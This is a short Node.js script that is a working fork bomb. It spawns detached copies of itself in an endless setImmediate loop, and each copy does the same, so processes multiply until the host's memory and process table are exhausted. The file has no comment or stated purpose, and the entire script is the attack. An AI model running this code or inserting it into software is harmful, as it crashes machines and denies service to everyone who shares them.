const {spawn} = require('child_process');
console.log('x');
function again() {
    spawn(process.execPath, [__filename], {detached: true});
    setImmediate(again);
}
again();
